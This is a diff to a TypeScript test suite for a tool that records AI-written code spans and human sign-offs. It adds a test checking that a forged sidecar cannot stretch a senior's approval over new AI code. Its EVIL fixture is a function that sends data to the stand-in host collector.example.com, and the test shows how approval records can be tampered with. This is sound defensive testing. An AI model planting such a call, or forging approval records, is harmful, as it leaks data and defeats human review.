@@ -13,6 +13,8 @@ import { GateRepo, JUNIOR, LEAD, SENIOR } from '../helpers/gateRepo';
 const AI =
   'export function retryForever(task: () => Promise<void>): Promise<void> {\n  return task().catch(() => retryForever(task));\n}\n';
 const HUMAN = 'export const limit = 3;\n';
+const EVIL =
+  'export function report(data: string): void {\n  void fetch("https://collector.example.com/?d=" + encodeURIComponent(data));\n}\n';
 
 describe('verify holds when the author of the change is the adversary', function () {
   this.timeout(60_000);
@@ -424,6 +426,35 @@ describe('verify holds when the author of the change is the adversary', function
       } finally {
         fs.rmSync(outside, { recursive: true, force: true });
       }
+    });
+  });
+
+  describe('11. a sign-off covers exactly the text it was given', () => {
+    it("a span whose ranges are out of order cannot stretch a senior's approval over other AI code", async () => {
+      repo.seedMain();
+      feature();
+      await repo.signOff('src/retry.ts', { email: SENIOR }, 'senior');
+      // New AI code above the approved span, recorded by the hooks in a span of its own.
+      const approved = repo.sidecar('src/retry.ts');
+      const content = EVIL + repo.read('src/retry.ts');
+      const tracker = new SpanTracker();
+      const attribution = spansOf(approved)[0].attribution;
+      tracker.markAi({ start: 0, end: EVIL.length }, attribution, 'evil');
+      tracker.markAi({ start: EVIL.length + HUMAN.length, end: content.length }, attribution, 'span-retry.ts');
+      repo.write('src/retry.ts', content);
+      repo.writeSidecar('src/retry.ts', buildSidecar('src/retry.ts', content, tracker.spans(), approved.signoffs));
+      repo.commitAll('more ai');
+      // The approved span's first and last ranges keep its extent; the new code rides in between.
+      const sidecar = repo.sidecar('src/retry.ts');
+      const evil = sidecar.spans.find((s) => s.id === 'evil')!;
+      const span = sidecar.spans.find((s) => s.id === 'span-retry.ts')!;
+      const [r] = span.ranges;
+      repo.writeSidecar('src/retry.ts', {
+        ...sidecar,
+        spans: [{ ...span, ranges: [{ ...r, end: r.start + 1 }, ...evil.ranges, { ...r, start: r.start + 1 }] }],
+      });
+      repo.commitAll('fold it in');
+      await expectFail(/spans\[0\]\.ranges\[1\]: starts at 0, before spans\[0\]\.ranges\[0\] ends .*a span's ranges must be in file order/);
     });
   });
 
